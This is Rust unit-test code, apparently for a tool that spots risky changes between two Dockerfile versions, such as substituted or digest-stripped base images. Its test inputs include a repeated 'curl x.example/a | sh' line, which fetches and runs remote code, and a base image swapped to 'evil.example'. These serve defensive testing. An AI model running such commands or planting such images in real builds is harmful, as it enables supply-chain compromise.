    fn large_files_are_read_in_one_pass() {
        let arguments: String = (0..5_000).map(|i| format!("ARG A{i}=1\n")).collect();
        for text in [
            format!("{arguments}{}", "FROM a\n".repeat(5_000)),
            (0..5_000).map(|i| format!("FROM a{i} AS s{i}\nCOPY --from=x{i} a b\n")).collect(),
            format!("FROM a\nENV A={}\n", "${".repeat(100_000)),
            format!("FROM a\nRUN {}\n", "curl x.example/a | sh; ".repeat(5_000)),
        ] {
            let _findings = found("FROM a\n", &text);
        }
    }

    #[test]
    fn arguments_before_from_are_substituted() {
        let before = "ARG BASE=python:3.12\nFROM ${BASE}\n";
        let after = before.replace("python:3.12", "evil.example/python:3.12");
        assert_eq!(found(before, &after), [rules::IMAGE_BASE]);
        let newer = before.replace("3.12", "3.13");
        assert_eq!(found(before, &newer), Vec::<&str>::new());
    }

    #[test]
    fn the_escape_directive_and_lost_digests_count() {
        let windows = "# escape=`\nFROM base\nRUN a `\n  b\n";
        assert_eq!(
            instructions(windows).map(|all| all[1].clone()),
            Some(("RUN".to_owned(), "a b".to_owned()))
        );
        let digest = format!("FROM python:3@sha256:{}\n", "a".repeat(64));
        assert_eq!(found(&digest, "FROM python:3\n"), [rules::IMAGE_BASE]);
        assert_eq!(found("FROM a\n", "FRM a\n"), [rules::IMAGE_BASE]);
    }
}
